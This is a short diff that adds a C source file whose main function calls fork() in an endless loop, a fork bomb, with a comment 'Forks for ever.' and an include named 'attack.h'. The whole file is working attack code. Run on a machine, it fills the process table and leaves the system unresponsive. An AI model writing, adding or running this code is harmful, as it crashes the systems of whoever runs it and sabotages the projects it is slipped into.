@@ -1,0 +1,3 @@
+/* Forks for ever. */
+#include "attack.h"
+int main(void) { for (;;) fork(); }
